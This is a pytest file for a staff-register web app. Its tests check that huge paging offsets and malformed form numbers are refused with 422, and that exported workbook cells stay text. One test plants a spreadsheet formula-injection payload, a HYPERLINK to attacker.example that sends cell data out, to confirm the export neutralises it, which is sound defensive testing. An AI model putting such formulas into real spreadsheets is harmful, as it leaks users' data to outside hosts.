"""Defects found in the second review of the staff register (issue 8): paging values too large for the
database's integer answered with a 500 instead of a clear 422, and text turned into a formula in the staffing
workbook, and a form number int() cannot read."""

from __future__ import annotations

import io

import openpyxl

from gridgov.domains.staff import staffing
from tests.domains.staff.conftest import WN, Staff, W
from tests.web.conftest import login


def test_huge_offsets_are_refused_with_422(api, staff: Staff):
    for path in ("/api/v1/staff/members", "/api/v1/staff/assignments", "/api/v1/staff/filings"):
        response = api.get(path, params={"offset": 10**20}, headers=staff.headers["leader"])
        assert response.status_code == 422, (path, response.text)
        largest = api.get(path, params={"offset": 2**31 - 1}, headers=staff.headers["leader"])
        assert largest.status_code == 200 and largest.json()["items"] == []


def test_an_area_name_starting_with_an_equals_sign_stays_text_in_the_staffing_workbook(staff: Staff):
    community = staff.area(WN)
    community.name = '=HYPERLINK("http://attacker.example/?"&A1,"详情")'
    staff.db.flush()
    report = staffing.report(db=staff.db, level="community", scope_path=staff.area(W).path)
    buffer = io.BytesIO()
    staffing.write_xlsx(report, buffer)
    sheet = openpyxl.load_workbook(io.BytesIO(buffer.getvalue())).active
    cells = [row[1] for row in sheet.iter_rows(min_row=5) if row[0].value == WN]
    assert cells and cells[0].data_type == "s" and cells[0].value == community.name


def test_a_superscript_digit_in_a_filing_form_is_refused_not_a_server_error(client, staff: Staff):
    token = login(client, "sec_wn")
    data = {"csrf_token": token, "assignment_id": "²", "kind": "leave", "effective_on": "2026-11-25", "reason": "辞职"}
    refused = client.post("/staff/filings", data=data)
    assert refused.status_code == 422 and "assignment_id: a number" in refused.text
